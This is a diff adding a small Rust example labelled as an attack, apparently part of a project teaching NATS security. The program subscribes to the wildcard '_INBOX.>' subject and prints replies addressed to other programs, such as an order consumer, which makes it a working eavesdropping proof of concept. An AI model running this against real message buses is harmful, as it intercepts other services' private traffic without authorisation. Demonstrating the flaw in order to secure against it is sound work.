@@ -1,0 +1,23 @@
+//! An attack: hears the replies that other programs get.
+//!
+//! ```sh
+//! cargo run -p secure --example attack-eavesdrop   # with the line of any program, order-consumer's for instance
+//! ```
+
+use std::io::{Write, stdout};
+
+use futures::StreamExt;
+
+mod user;
+
+#[tokio::main]
+async fn main() -> Result<(), async_nats::Error> {
+    let nats = user::connect().await?;
+    let mut replies = nats.subscribe("_INBOX.>").await?;
+    nats.flush().await?;
+    writeln!(stdout(), "listening")?;
+    while let Some(reply) = replies.next().await {
+        writeln!(stdout(), "{}: {}", reply.subject, String::from_utf8_lossy(&reply.payload))?;
+    }
+    Ok(())
+}
